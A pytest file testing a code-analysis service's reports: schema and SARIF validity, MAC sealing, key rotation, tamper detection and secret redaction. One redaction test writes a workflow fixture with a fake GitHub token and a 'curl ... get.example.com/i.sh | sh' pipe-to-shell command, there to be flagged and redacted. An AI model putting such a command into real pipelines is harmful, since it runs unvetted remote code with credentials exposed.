"""Reports: the JSON schema, SARIF 2.1.0 validity, one seal format (brand, key version, MAC)
across formats, key rotation with its grace window, tampering, redaction of secrets."""

from __future__ import annotations

import json
import secrets
from datetime import timedelta
from pathlib import Path

import jsonschema
import pytest

from adapters.backend import Backend
from adapters.catalog import SECRETS, Secret
from adapters.clock import FakeClock
from service.oracle.integrity import BRAND, SealError, verify_document, verify_text
from service.oracle.keys import load_keyring
from service.oracle.render import Format, render
from service.oracle.report_schema import PINNED_SCHEMA_HASH, REPORT_SCHEMA, SCHEMA_HASH

from .conftest import fixture, remove_redaction_key, run

SARIF_SCHEMA = json.loads((Path(__file__).parent / "sarif-schema-2.1.0.json").read_text())
GRACE = SECRETS[Secret.REDACTION_KEY].grace_period


def keyring(backend: Backend):  # type: ignore[no-untyped-def]
    return load_keyring(backend.secrets, backend.metrics, now=backend.clock.now())


@pytest.fixture
def busy(keyed_backend: Backend):  # type: ignore[no-untyped-def]
    """An analysis with findings, a suppression and degraded reasons."""
    from adapters.ports import Review
    from service.oracle import fp

    context = fixture("md001", "failing", "context.json")
    first = run(keyed_backend, fixture("md003", "failing"), context=context)
    target = first.findings[-1]
    fp.mark(
        keyed_backend.fp_events,
        target.fingerprint,
        Review.FALSE_POSITIVE,
        reviewer="r",
        reason="x",
        at=keyed_backend.clock.now(),
    )
    return run(keyed_backend, fixture("md003", "failing"), context=context)


def test_report_schema_hash_is_pinned() -> None:
    # Changing REPORT_SCHEMA needs a new PINNED_SCHEMA_HASH and docs/oracle.md's report section.
    assert SCHEMA_HASH == PINNED_SCHEMA_HASH
    jsonschema.Draft202012Validator.check_schema(REPORT_SCHEMA)


def test_json_report_validates_against_its_schema(busy) -> None:  # type: ignore[no-untyped-def]
    document = json.loads(render(busy, Format.JSON))
    jsonschema.Draft202012Validator(
        REPORT_SCHEMA, format_checker=jsonschema.FormatChecker()
    ).validate(document)
    assert document["machine_decision"]["outcome"] == "block"
    assert document["suppressed"] and document["degraded"] and document["findings"]
    assert document["integrity"]["brand"] == BRAND


def test_unsealed_report_still_validates(local_backend: Backend) -> None:
    analysis = run(remove_redaction_key(local_backend), fixture("md002", "passing"))
    document = json.loads(render(analysis, Format.JSON))
    jsonschema.Draft202012Validator(REPORT_SCHEMA).validate(document)
    assert document["integrity"] is None


def test_sarif_validates_against_the_sarif_210_schema(busy) -> None:  # type: ignore[no-untyped-def]
    document = json.loads(render(busy, Format.SARIF))
    jsonschema.Draft7Validator(SARIF_SCHEMA, format_checker=jsonschema.FormatChecker()).validate(
        document
    )
    run_ = document["runs"][0]
    rules = {rule["id"] for rule in run_["tool"]["driver"]["rules"]}
    assert rules == {"MD-001", "MD-002", "MD-003", "MD-004", "MD-005", "MD-102"}
    for result in run_["results"]:
        assert run_["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
        assert len(result["partialFingerprints"]["phaseMirrorFinding/v1"]) >= 32
    suppressed = [r for r in run_["results"] if "suppressions" in r]
    assert len(suppressed) == 1 and suppressed[0]["suppressions"][0]["kind"] == "external"
    assert all(rule["properties"]["security-severity"] for rule in run_["tool"]["driver"]["rules"])


@pytest.mark.parametrize("fmt", list(Format))
def test_every_format_is_sealed_and_verifies(busy, keyed_backend: Backend, fmt: Format) -> None:  # type: ignore[no-untyped-def]
    text = render(busy, fmt)
    ring = keyring(keyed_backend)
    if fmt in (Format.JSON, Format.SARIF):
        verified = verify_document(json.loads(text), ring)
    else:
        verified = verify_text(text, ring)
        assert text.splitlines()[-1].startswith("phase-mirror-integrity: brand=" + BRAND)
    assert (verified.key_version, verified.which) == (ring.current.version, "current")


@pytest.mark.parametrize("fmt", list(Format))
def test_tampering_is_detected(busy, keyed_backend: Backend, fmt: Format) -> None:  # type: ignore[no-untyped-def]
    text = render(busy, fmt)
    ring = keyring(keyed_backend)
    tampered = text.replace("block", "pass", 1)
    assert tampered != text

    def verify() -> object:
        if fmt in (Format.JSON, Format.SARIF):
            return verify_document(json.loads(tampered), ring)
        return verify_text(tampered, ring)

    with pytest.raises(SealError, match="MAC mismatch"):
        verify()


def test_brand_and_key_version_are_bound(busy, keyed_backend: Backend) -> None:  # type: ignore[no-untyped-def]
    ring = keyring(keyed_backend)
    document = json.loads(render(busy, Format.JSON))
    swapped = json.loads(json.dumps(document))
    swapped["integrity"]["brand"] = "someone-else.v1"
    with pytest.raises(SealError, match="unknown brand"):
        verify_document(swapped, ring)
    stripped = json.loads(json.dumps(document))
    stripped["integrity"] = None
    with pytest.raises(SealError, match="not sealed"):
        verify_document(stripped, ring)


def test_rotation_grace_window(busy, keyed_backend: Backend) -> None:  # type: ignore[no-untyped-def]
    clock: FakeClock = keyed_backend.clock  # type: ignore[assignment]
    old = render(busy, Format.JSON)
    clock.advance(timedelta(hours=1))
    keyed_backend.secrets.put(Secret.REDACTION_KEY, secrets.token_hex(32))
    within = verify_document(json.loads(old), keyring(keyed_backend))
    assert within.which == "previous"
    clock.advance(GRACE + timedelta(seconds=1))
    with pytest.raises(SealError, match="not current or within its grace window"):
        verify_document(json.loads(old), keyring(keyed_backend))


def test_secrets_in_evidence_are_redacted(keyed_backend: Backend, repo_copy) -> None:  # type: ignore[no-untyped-def]
    root = repo_copy("md003", "passing")
    token = "ghp_" + "A1b2C3d4" * 5
    workflow = root / ".github" / "workflows" / "leak.yml"
    workflow.write_text(
        "on: push\npermissions: {}\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: |\n"
        f"          curl -H 'Authorization: token {token}' https://get.example.com/i.sh | sh\n"
    )
    analysis = run(keyed_backend, root)
    for fmt in Format:
        assert token not in render(analysis, fmt)
    [pipe] = [f for f in analysis.findings if f.check == "pipe-to-shell"]
    assert "[REDACTED:github-token]" in pipe.evidence


def test_report_carries_no_absolute_paths(busy) -> None:  # type: ignore[no-untyped-def]
    text = render(busy, Format.JSON)
    assert str(fixture()) not in text
